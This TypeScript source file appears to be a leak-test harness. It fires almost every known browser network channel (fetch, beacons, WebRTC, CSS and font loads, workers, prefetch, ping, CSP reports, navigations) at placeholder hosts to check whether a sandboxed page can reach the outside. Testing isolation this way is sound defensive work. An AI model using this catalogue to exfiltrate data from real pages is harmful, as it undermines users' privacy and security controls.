// Every way by which a page is known to reach another computer. Runs in the page itself, so it is one function that uses nothing from
// outside; each way is tried once by name and once by address, so that neither a dead resolver nor a dead proxy alone can hide it.

/** How a way is told apart in the packets: its name is a host name, its number the last byte of an address. */
export const zone = 'leak.test';
export const addressOf = (at: number): string => `203.0.113.${String(at + 1)}`;

export interface Tried {
  readonly name: string;
  /** What the page was told at once; empty when nothing was refused before it could be sent. */
  readonly refused: string;
}

/** Tries them all in the page and answers after the last has had its time. `zone` as above; addresses are numbered in order. */
export const tryEveryWay = async (given: { readonly zone: string; readonly address: string; readonly waitMs: number }): Promise<readonly Tried[]> => {
  /** Something of the page by its path, with what it belongs to. */
  const reach = (path: string): { readonly owner: object; readonly value: unknown } => {
    let owner: object = globalThis;
    let value: unknown = globalThis;
    for (const name of path.split('.')) {
      owner = value as object;
      value = Reflect.get(owner, name);
      if (value === undefined || value === null) throw new Error(`no ${path}`);
    }
    return { owner, value };
  };
  const call = (path: string, ...args: readonly unknown[]): unknown => {
    const { owner, value } = reach(path);
    return Reflect.apply(value as (...all: readonly unknown[]) => unknown, owner, args);
  };
  const make = (path: string, ...args: readonly unknown[]): object => Reflect.construct(reach(path).value as new (...all: readonly unknown[]) => object, args);
  const put = (tag: string, attributes: Readonly<Record<string, string>>, text = ''): HTMLElement => {
    const element = tag.startsWith('svg:') ? document.createElementNS('http://www.w3.org/2000/svg', tag.slice(4)) as unknown as HTMLElement : document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    element.textContent = text;
    document.body.append(element);
    return element;
  };
  const link = (rel: string, href: string, more: Readonly<Record<string, string>> = {}): void => {
    const element = document.createElement('link');
    for (const [name, value] of Object.entries({ rel, href, ...more })) element.setAttribute(name, value);
    document.head.append(element);
  };
  const inBlob = (text: string): string => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  const rtc = (server: Readonly<Record<string, string>>): unknown => {
    const peer = new RTCPeerConnection({ iceServers: [server as unknown as RTCIceServer] });
    peer.createDataChannel('out');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  };
  /** Some ask for data that a page would have to sign; the address is fetched before that is looked at. */
  const adInterest = (host: string): object => ({ owner: `https://${host}`, name: 'out', lifetimeMs: 1000, biddingLogicURL: `https://${host}/b.js`, ads: [] });

  const ways: Readonly<Record<string, (host: string) => unknown>> = {
    'fetch': (host) => fetch(`https://${host}/`),
    'fetch-no-cors': (host) => fetch(`https://${host}/`, { mode: 'no-cors', credentials: 'include' }),
    'fetch-keepalive': (host) => fetch(`https://${host}/`, { method: 'POST', body: 'out', keepalive: true, mode: 'no-cors' }),
    'fetch-later': (host) => call('fetchLater', `https://${host}/`, { activateAfter: 0 }),
    'fetch-plain': (host) => fetch(`http://${host}/`),
    'xhr': (host) => {
      const request = new XMLHttpRequest();
      request.open('GET', `https://${host}/`);
      request.send();
    },
    'beacon': (host) => navigator.sendBeacon(`https://${host}/`, 'out'),
    'websocket': (host) => new WebSocket(`wss://${host}/`),
    'websocket-plain': (host) => new WebSocket(`ws://${host}/`),
    'websocket-stream': (host) => make('WebSocketStream', `wss://${host}/`),
    'event-source': (host) => new EventSource(`https://${host}/`),
    'web-transport': (host) => make('WebTransport', `https://${host}:443/`),
    'cache-add': (host) => caches.open('out').then((cache) => cache.add(new Request(`https://${host}/`, { mode: 'no-cors' }))),
    'img': (host) => put('img', { src: `https://${host}/` }),
    'img-constructor': (host) => Object.assign(new Image(), { src: `https://${host}/` }),
    'img-srcset': (host) => put('img', { srcset: `https://${host}/ 1x` }),
    'img-attribution': (host) => put('img', { attributionsrc: `https://${host}/` }),
    'picture': (host) => put('picture', {}).append(put('source', { srcset: `https://${host}/` }), put('img', {})),
    'input-image': (host) => put('input', { type: 'image', src: `https://${host}/` }),
    'svg-image': (host) => put('svg:svg', {}).append(put('svg:image', { href: `https://${host}/` })),
    'svg-use': (host) => put('svg:svg', {}).append(put('svg:use', { href: `https://${host}/a.svg#a` })),
    'svg-filter': (host) => put('svg:svg', {}).append(put('svg:feImage', { href: `https://${host}/` })),
    'video': (host) => put('video', { src: `https://${host}/`, preload: 'auto' }),
    'video-poster': (host) => put('video', { poster: `https://${host}/` }),
    'audio': (host) => new Audio(`https://${host}/`).play(),
    'track': (host) => {
      const video = put('video', { src: 'data:video/mp4;base64,AAAA' });
      video.append(put('track', { src: `https://${host}/`, kind: 'captions', default: '' }));
    },
    'iframe': (host) => put('iframe', { src: `https://${host}/` }),
    'iframe-srcdoc': (host) => put('iframe', { srcdoc: `<img src="https://${host}/">` }),
    'iframe-data': (host) => put('iframe', { src: `data:text/html,<img src="https://${host}/">` }),
    'iframe-blob': (host) => put('iframe', { src: URL.createObjectURL(new Blob([`<img src="https://${host}/">`], { type: 'text/html' })) }),
    'fenced-frame': (host) => put('fencedframe', { src: `https://${host}/` }),
    'object': (host) => put('object', { data: `https://${host}/` }),
    'embed': (host) => put('embed', { src: `https://${host}/` }),
    'script': (host) => put('script', { src: `https://${host}/` }),
    'script-module': (host) => put('script', { src: `https://${host}/`, type: 'module' }),
    'import': (host) => import(`https://${host}/a.js`),
    'import-map': (host) => {
      put('script', { type: 'importmap' }, JSON.stringify({ imports: { [`out-${host}`]: `https://${host}/m.js` } }));
      return import(`out-${host}`);
    },
    'stylesheet': (host) => { link('stylesheet', `https://${host}/`); },
    'css-import': (host) => put('style', {}, `@import "https://${host}/";`),
    'css-url': (host) => put('div', { style: `background: url(https://${host}/); width: 9px; height: 9px` }, 'x'),
    'css-adopted': (host) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { border-image: url(https://${host}/) 1; border-style: solid } ::selection { background: url(https://${host}/) }`);
      document.adoptedStyleSheets.push(sheet);
    },
    'css-cursor': (host) => put('div', { style: `cursor: url(https://${host}/), auto; list-style-image: url(https://${host}/); display: list-item` }, 'x'),
    'font': (host) => new FontFace('out', `url(https://${host}/a.woff2)`).load(),
    'font-css': (host) => put('style', {}, `@font-face { font-family: out; src: url(https://${host}/a.woff2) } body { font-family: out }`),
    'worker': (host) => new Worker(`https://${host}/`),
    'worker-blob-import': (host) => new Worker(inBlob(`importScripts('https://${host}/')`)),
    'worker-blob-fetch': (host) => new Worker(inBlob(`fetch('https://${host}/')`)),
    'worker-data-fetch': (host) => new Worker(`data:text/javascript,fetch('https://${host}/')`),
    'worker-module': (host) => new Worker(inBlob(`import 'https://${host}/a.js'`), { type: 'module' }),
    'worker-shared': (host) => new SharedWorker(`https://${host}/`),
    'worker-shared-blob': (host) => new SharedWorker(inBlob(`fetch('https://${host}/')`)),
    'worker-service': (host) => navigator.serviceWorker.register(`https://${host}/`),
    'worklet-audio': (host) => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(`https://${host}/a.js`),
    'worklet-paint': (host) => call('CSS.paintWorklet.addModule', `https://${host}/a.js`),
    'prefetch': (host) => { link('prefetch', `https://${host}/`); },
    'preload': (host) => { link('preload', `https://${host}/`, { as: 'image' }); },
    'module-preload': (host) => { link('modulepreload', `https://${host}/`); },
    'preconnect': (host) => { link('preconnect', `https://${host}/`); },
    'preconnect-cors': (host) => { link('preconnect', `https://${host}/`, { crossorigin: '' }); },
    'dns-prefetch': (host) => { link('dns-prefetch', `https://${host}/`); },
    'prerender': (host) => { link('prerender', `https://${host}/`); },
    'dictionary': (host) => { link('compression-dictionary', `https://${host}/`); },
    'speculation-prefetch': (host) => put('script', { type: 'speculationrules' }, JSON.stringify({ prefetch: [{ source: 'list', urls: [`https://${host}/`], eagerness: 'immediate' }] })),
    'speculation-prerender': (host) => put('script', { type: 'speculationrules' }, JSON.stringify({ prerender: [{ source: 'list', urls: [`https://${host}/`], eagerness: 'immediate' }] })),
    'favicon': (host) => { link('icon', `https://${host}/a.ico`); },
    'touch-icon': (host) => { link('apple-touch-icon', `https://${host}/a.png`); },
    'manifest': (host) => { link('manifest', `https://${host}/`, { crossorigin: 'use-credentials' }); },
    'ping': (host) => { put('a', { href: '#here', ping: `https://${host}/` }, 'x').click(); },
    'stun-name': (host) => rtc({ urls: `stun:${host}:3478` }),
    'stun-default-port': (host) => rtc({ urls: `stun:${host}` }),
    'turn-udp': (host) => rtc({ urls: `turn:${host}:3478?transport=udp`, username: 'a', credential: 'b' }),
    'turn-tcp': (host) => rtc({ urls: `turn:${host}:3478?transport=tcp`, username: 'a', credential: 'b' }),
    'turn-tls': (host) => rtc({ urls: `turns:${host}:443?transport=tcp`, username: 'a', credential: 'b' }),
    'credential-passkey': (host) => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(32), rpId: host, timeout: 1000 } }),
    'credential-federated': (host) => navigator.credentials.get({ identity: { providers: [{ configURL: `https://${host}/c.json`, clientId: 'a', nonce: 'n' }] } } as CredentialRequestOptions),
    'payment': (host) => new PaymentRequest([{ supportedMethods: `https://${host}/pay` }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(),
    'presentation': (host) => (make('PresentationRequest', [`https://${host}/`]) as { getAvailability(): unknown }).getAvailability(),
    'remote-playback': (host) => (put('video', { src: `https://${host}/` }) as HTMLVideoElement).remote.watchAvailability(() => undefined),
    'ad-auction': (host) => call('navigator.joinAdInterestGroup', adInterest(host), 1000),
    'shared-storage': (host) => call('sharedStorage.createWorklet', `https://${host}/a.js`),
    'private-token': (host) => fetch(`https://${host}/`, { privateToken: { version: 1, operation: 'token-request' } } as RequestInit),
    'geolocation': () => { navigator.geolocation.getCurrentPosition(() => undefined, () => undefined, { timeout: 1000 }); },
    'speech-recognition': () => { (make('webkitSpeechRecognition') as { start(): void }).start(); },
    'translator': () => call('Translator.create', { sourceLanguage: 'en', targetLanguage: 'fr' }),
    'language-model': () => call('LanguageModel.create'),
    'tcp-socket': (host) => make('TCPSocket', host, 443),
    'udp-socket': (host) => make('UDPSocket', { remoteAddress: host, remotePort: 443 }),
  };

  const tried: Tried[] = [];
  for (const [at, [name, way]] of Object.entries(ways).entries()) {
    let refused = '';
    for (const host of [`${name}.${given.zone}`, given.address.replace('#', String(at + 1))]) {
      try {
        void Promise.resolve(way(host)).catch(() => undefined);
      } catch (error) {
        refused = error instanceof Error ? error.name : 'refused';
      }
    }
    tried.push({ name, refused });
  }
  await new Promise((resolve) => { setTimeout(resolve, given.waitMs); });
  return tried;
};

export const waysToLeave = ['location', 'location-replace', 'meta-refresh', 'form-post', 'form-get', 'link', 'window-open', 'window-open-empty', 'link-new-window', 'download', 'policy-report', 'history'] as const;

/** Ways that leave or change the page; each is tried alone, on a page of its own. */
export const leave = ({ way, host }: { readonly way: string; readonly host: string }): void => {
  const put = (tag: string, attributes: Readonly<Record<string, string>>): HTMLElement => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  const address = `https://${host}/`;
  switch (way) {
    case 'location': location.href = address; break;
    case 'location-replace': location.replace(address); break;
    case 'meta-refresh': document.head.append(put('meta', { 'http-equiv': 'refresh', 'content': `0;url=${address}` })); break;
    case 'form-post': (put('form', { action: address, method: 'post' }) as HTMLFormElement).submit(); break;
    case 'form-get': (put('form', { action: address, target: '_blank' }) as HTMLFormElement).submit(); break;
    case 'link': put('a', { href: address }).click(); break;
    case 'window-open': window.open(address); break;
    case 'window-open-empty': {
      const other = window.open('');
      if (other !== null) other.location.href = address;
      break;
    }
    case 'link-new-window': put('a', { href: address, target: '_blank', rel: 'noopener' }).click(); break;
    case 'download': put('a', { href: address, download: 'a.txt' }).click(); break;
    case 'policy-report':
      document.head.append(put('meta', { 'http-equiv': 'Content-Security-Policy', 'content': `img-src 'none'; report-uri ${address}; report-to out` }));
      put('img', { src: 'https://nowhere.invalid/' });
      break;
    default:
      history.pushState({}, '', '#away');
      location.assign(address);
  }
};
